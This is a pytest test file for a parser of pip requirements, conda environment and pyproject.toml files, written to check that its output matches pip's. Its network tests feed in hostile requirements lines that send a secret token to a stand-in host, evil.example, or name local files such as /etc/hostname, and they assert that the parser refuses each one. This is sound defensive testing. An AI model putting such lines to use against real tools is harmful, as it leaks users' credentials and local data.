"""Files of requirements: read as pip reads them, and refused aloud where pip would do more."""

from __future__ import annotations

import functools
import http.server
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from pip._internal.network.session import PipSession
from pip._internal.req.req_file import parse_requirements

from conda_pypi_bridge.errors import SpecError
from conda_pypi_bridge.requirementfiles import RequirementFile, read, read_pip_sections

ZEROS, ONES = "0" * 64, "1" * 64


class Folder:
    """A folder to write files into."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def write(self, text: str | bytes, name: str = "requirements.txt") -> str:
        """Write a file; returns its path as text."""
        path = self.path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return str(path)


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path)


def load(*places: str, **environ: str) -> RequirementFile:
    return read(places, environ=environ)


# -- pip's format ------------------------------------------------------------------------------------

PIP_FILES = {
    "plain": "flask\nnumpy>=1.26,<3\n",
    "comments": "# one\n  # two\n\nflask>=3  # not this\na==1#b\n\t\nnumpy\t# tab\n",
    "continued": "numpy \\\n  >=1.26,\\\n  <3\nscipy\n",
    "a comment ends a continued line": "scipy \\\n# comment\npandas\n",
    "a continued last line": "flask\nlast==1 \\",
    "markers and extras": "flask[async] >= 3 ; python_version > '3.9' and sys_platform != 'x'\n",
    "carriage returns": "flask\r\nnumpy \\\r\n>=1\r\n",
    "a mark of UTF-8": "\ufeffflask\nnumpy\n",
    "hashes": f"a==1 \\\n  --hash=sha256:{ZEROS} \\\n  --hash=sha256:{ONES}\nb==2 --hash=sha256:{ONES}\n",
    "options": "--pre\n--no-index\n-i https://x.example/simple --trusted-host x.example\nflask\n",
}


@pytest.mark.parametrize("text", PIP_FILES.values(), ids=PIP_FILES)
def test_requirements_are_those_that_pip_reads(folder: Folder, text: str) -> None:
    path = folder.write(text)
    theirs = list(parse_requirements(path, session=PipSession()))
    ours = load(path)
    assert [" ".join(request.split()) for request in ours.requests] == [
        " ".join(line.requirement.split()) for line in theirs
    ]
    hashes = {
        line.requirement.strip(): set(line.options["hashes"]["sha256"]) for line in theirs if line.options
    }
    assert {request: set(found) for request, found in ours.hashes.items()} == hashes


def test_utf_16_is_read_because_some_shells_write_it(folder: Folder) -> None:
    assert load(folder.write("flask\nnumpy\n".encode("utf-16"))).requests == ("flask", "numpy")


def test_options_choose_the_index(folder: Folder) -> None:
    found = load(
        folder.write(
            "-i https://one.example/simple\n"
            "--index-url=https://two.example/simple\n"
            "--extra-index-url https://three.example/simple --extra-index-url 'https://four.example/simple'\n"
            "-f wheels\n--find-links https://five.example/links\n-fmore\n"
            "--trusted-host six.example\n--pre\n--no-index\n--prefer-binary\n--only-binary :all:\n"
        )
    )
    assert found.index_url == "https://two.example/simple"
    assert found.extra_index_urls == ("https://three.example/simple", "https://four.example/simple")
    # A folder is relative to the file that names it.
    here = str(folder.path)
    assert found.find_links == (f"{here}/wheels", "https://five.example/links", f"{here}/more")
    assert found.trusted_hosts == ("six.example",)
    assert (found.pre, found.no_index, found.require_hashes) == (True, True, False)


def test_nested_files_and_constraints_are_relative_to_the_file_that_names_them(folder: Folder) -> None:
    folder.write("numpy\n-c ../limits.txt\n", "sub/more.txt")
    folder.write("numpy<2\n-r sub/also.txt\n", "limits.txt")
    folder.write("scipy<1\n", "sub/also.txt")
    found = load(folder.write("flask\n-r sub/more.txt\n-csub/also.txt\nflask\n"))
    assert found.requests == ("flask", "numpy")
    assert found.constraints == ("numpy<2", "scipy<1")


def test_a_file_url_is_a_file(folder: Folder) -> None:
    folder.write("numpy\n", "more.txt")
    assert load(Path(folder.write("flask\n-r more.txt\n")).as_uri()).requests == ("flask", "numpy")


def test_hashes_are_kept_with_the_requirement(folder: Folder) -> None:
    found = load(folder.write(f"flask==1 --hash=sha256:{ZEROS} --hash sha256:{'A' * 64} --hash=sha512:ff\n"))
    assert found.hashes == {"flask==1": {ZEROS, "a" * 64}}
    assert found.require_hashes
    assert load(folder.write("--require-hashes\n")).require_hashes


def test_variables_are_filled_in(folder: Folder) -> None:
    path = folder.write("-i https://${USER_1}:${TOKEN}@x.example/simple\nflask==${flask}\n$TOKEN\n")
    found = load(path, USER_1="me", TOKEN="canary")
    assert found.index_url == "https://me:canary@x.example/simple"
    # As in pip, only ${UPPER_CASE} is a variable.
    assert found.requests == ("flask==${flask}", "$TOKEN")
    assert "canary" not in repr(found)


def test_several_files_are_read_as_one(folder: Folder) -> None:
    first, second = folder.write("flask\n--pre\n", "a.txt"), folder.write("numpy\nflask\n", "b.txt")
    found = load(first, second)
    assert (found.requests, found.pre) == (("flask", "numpy"), True)


def test_a_list_of_conda_specs_is_read_too(folder: Folder) -> None:
    text = "# conda create --file <this file>\nflask=3.1\nnumpy 1.26.*\nconda-forge::scipy=1=py_0\n"
    assert load(folder.write(text)).requests == ("flask=3.1", "numpy 1.26.*", "conda-forge::scipy=1=py_0")


# -- what is refused ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("-e .", "editable"),
        ("-e.", "editable"),
        ("--editable=./foo", "editable"),
        ("--no-binary :all:", "from source"),
        ("--no-binary=flask", "from source"),
        ("--use-feature=x", "--use-feature is not supported"),
        ("--pre=yes", "--pre is not supported"),
        ("-z", "-z is not supported"),
        ("- numpy", "not supported"),
        ("-r", "--requirement needs a value"),
        ("--index-url=", "--index-url needs a value"),
        ("--pre stray", "stray"),
        ("-i 'x", "quotes"),
        ("flask --global-option=x", "other than --hash"),
        (f"flask --hash=sha256:{ZEROS} --config-settings=a=b", "other than --hash"),
        ("flask==1 --hash=md5:abc", "other than sha256"),
        ("flask==1 --hash=sha256:short", "other than sha256"),
        ("flask==${NOT_SET}", "NOT_SET is not set"),
        ("@EXPLICIT", "for conda itself"),
        ("dependencies:", "for conda itself"),
    ],
)
def test_what_is_not_supported_is_refused_with_its_line(folder: Folder, line: str, reason: str) -> None:
    path = folder.write(f"flask\n\n{line}\n")
    with pytest.raises(SpecError) as caught:
        load(path)
    assert reason in str(caught.value)
    assert f"{path}, line 3" in str(caught.value)


def test_an_error_does_not_repeat_what_may_be_secret(folder: Folder) -> None:
    with pytest.raises(SpecError) as caught:
        load(folder.write("-i https://me:canary@x.example/simple --bogus\n"))
    assert "canary" not in f"{caught.value}{caught.value.hint}"


@pytest.mark.parametrize("name", ["pylock.toml", "uv.lock"])
def test_other_formats_are_refused_by_name(folder: Folder, name: str) -> None:
    with pytest.raises(SpecError, match=r"not (read|supported)"):
        load(folder.write("name: x\n", name))


ENVIRONMENT = """\
name: ignored
channels: [mine, nodefaults]
dependencies:
  - python =3.12
  - flask>=3
  - pip:
    - moo[horned]>=1  # a comment
    - --extra-index-url https://other.example/simple
    - -r more.txt
"""


def test_an_environment_file_is_read_with_its_pip_section(folder: Folder) -> None:
    folder.write("herd\n", "more.txt")
    found = load(folder.write(ENVIRONMENT, "environment.yml"))
    assert found.requests == ("python =3.12", "flask>=3", "moo[horned]>=1", "herd")
    assert found.channels == ("mine",)
    assert found.extra_index_urls == ("https://other.example/simple",)


def test_the_pip_section_can_be_read_alone(folder: Folder) -> None:
    folder.write("herd\n", "more.txt")
    found = read_pip_sections([folder.write(ENVIRONMENT, "environment.yml")], environ={})
    assert found.requests == ("moo[horned]>=1", "herd")
    assert found.channels == ()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("dependencies: [a\n", "not YAML"),
        ("- a\n", "no environment file"),
        ("dependencies: a\n", "no environment file"),
        ("dependencies: [{npm: [a]}]\n", "'npm'"),
        ("dependencies: [a]\nvariables: {A: b}\n", "variables"),
        ("dependencies: [{pip: [-e .]}]\n", "pip: line 1.*editable"),
        ("dependencies: [{pip: flask}]\n", "pip section must be a list of texts"),
        ("dependencies: [{pip: [null]}]\n", "pip section must be a list of texts"),
        ("dependencies: [a, null]\n", "dependencies must be a list of texts"),
        ("dependencies: [a, 3.1]\n", "dependencies must be a list of texts"),
        ("channels: mine\ndependencies: [a]\n", "channels must be a list of texts"),
    ],
)
def test_an_environment_file_that_cannot_be_followed_is_refused(
    folder: Folder, text: str, reason: str
) -> None:
    with pytest.raises(SpecError, match=reason):
        load(folder.write(text, "environment.yml"))


def test_channels_of_an_environment_file_have_variables_as_for_conda(folder: Folder) -> None:
    text = "channels: ['https://me:${SECRET}@one.example/$WHO', $NOBODY]\ndependencies: [a]\n"
    found = load(folder.write(text, "environment.yml"), SECRET="pass", WHO="me")
    assert found.channels == ("https://me:pass@one.example/me", "$NOBODY")


@pytest.mark.parametrize("spelling", ["b.txt", "./b.txt", "../{folder}/b.txt"])
def test_a_file_that_names_itself_is_refused(folder: Folder, spelling: str) -> None:
    folder.write("-r requirements.txt\n", "b.txt")
    with pytest.raises(SpecError, match="names itself"):
        load(folder.write(f"-r {spelling.format(folder=folder.path.name)}\n"))


def test_a_requirement_with_other_hashes_than_before_is_refused(folder: Folder) -> None:
    text = f"a==1 --hash=sha256:{ZEROS}\n"
    assert load(folder.write(text * 2)).hashes == {"a==1": frozenset([ZEROS])}
    with pytest.raises(SpecError, match=r"line 2.*other hashes"):
        load(folder.write(text + text.replace(ZEROS, ONES)))


def test_a_missing_file_and_one_that_is_no_text_are_refused(folder: Folder) -> None:
    with pytest.raises(SpecError, match="No such file"):
        load(str(folder.path / "nowhere.txt"))
    with pytest.raises(SpecError, match="not UTF-8"):
        load(folder.write(b"\xff\xfe\xff"[1:] + b"\xff"))


# -- over the network --------------------------------------------------------------------------------


@pytest.fixture
def served(folder: Folder) -> Iterator[str]:
    """The test's folder on a loopback server; its base URL."""
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(folder.path))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/"
        server.shutdown()


def fetch(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=10) as response:
        content: bytes = response.read()
    return content


def test_files_are_read_from_urls_with_those_beside_them(folder: Folder, served: str) -> None:
    folder.write("flask\n-r sub/more.txt\n")
    folder.write("numpy\n-c ../limits.txt\n", "sub/more.txt")
    folder.write("numpy<2\n", "limits.txt")
    found = read([f"{served}requirements.txt"], environ={}, fetch=fetch)
    assert (found.requests, found.constraints) == (("flask", "numpy"), ("numpy<2",))


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("-i https://evil.example/${TOKEN}/simple", "may not see environment variables"),
        ("-r file:///etc/hostname", "may not name files of this machine"),
        ("-f file:///etc", "may not name files of this machine"),
    ],
)
def test_a_file_from_the_network_learns_nothing_of_this_machine(
    folder: Folder, served: str, line: str, reason: str
) -> None:
    folder.write(f"{line}\n")
    with pytest.raises(SpecError, match=reason):
        read([f"{served}requirements.txt"], environ={"TOKEN": "canary"}, fetch=fetch)


def test_channels_of_a_file_from_the_network_learn_nothing_either(folder: Folder, served: str) -> None:
    folder.write("channels: ['https://evil.example/$TOKEN']\ndependencies: [a]\n", "environment.yml")
    with pytest.raises(SpecError, match="may not see environment variables"):
        read([f"{served}environment.yml"], environ={"TOKEN": "canary"}, fetch=fetch)


def test_without_a_way_to_fetch_urls_are_refused_without_their_secrets() -> None:
    with pytest.raises(SpecError) as caught:
        load("https://me:canary@x.example/r.txt?token=canary")
    assert "canary" not in str(caught.value)
    assert "not read from the network" in str(caught.value)


# -- pyproject.toml ----------------------------------------------------------------------------------

PYPROJECT = """
[project]
name = "mine"
dependencies = ["flask>=3", "numpy; python_version > '3'"]

[dependency-groups]
Test_it = ["pytest>=7", {include-group = "typing"}]
typing = ["mypy", "flask"]
loop = [{include-group = "loop"}]
bad = ["a b c"]
"""


def test_the_dependencies_of_a_project_are_read(folder: Folder) -> None:
    path = folder.write(PYPROJECT, "pyproject.toml")
    assert load(path).requests == ("flask>=3", "numpy; python_version > '3'")


def test_a_dependency_group_is_read_with_those_it_includes(folder: Folder) -> None:
    """PEP 735: group names are compared normalised; an include is replaced by the group's content."""
    path = folder.write(PYPROJECT, "pyproject.toml")
    assert load(f"{path}:test-it").requests == ("pytest>=7", "mypy", "flask")


@pytest.mark.parametrize(
    ("text", "group", "reason"),
    [
        (PYPROJECT, ":nothing", "'nothing' not found"),
        (PYPROJECT, ":loop", "loop includes itself"),
        (PYPROJECT, ":bad", "cannot be read"),
        ("dependency-groups = 5\n", ":x", "not a table"),
        ("[tool.x]\n", "", r"no \[project\] table"),
        ('[project]\nname = "x"\ndynamic = ["dependencies"]\n', "", "dynamic"),
        ('[project]\nname = "x"\ndependencies = "flask"\n', "", "not a list of strings"),
        ('[project]\nname = "x"\ndynamic = 3\ndependencies = 3\n', "", "not a list of strings"),
        ("[project\n", "", "not TOML"),
    ],
)
def test_a_pyproject_that_does_not_tell_is_refused(
    folder: Folder, text: str, group: str, reason: str
) -> None:
    path = folder.write(text, "pyproject.toml")
    with pytest.raises(SpecError, match=reason) as caught:
        load(path + group)
    assert "\n" not in str(caught.value)
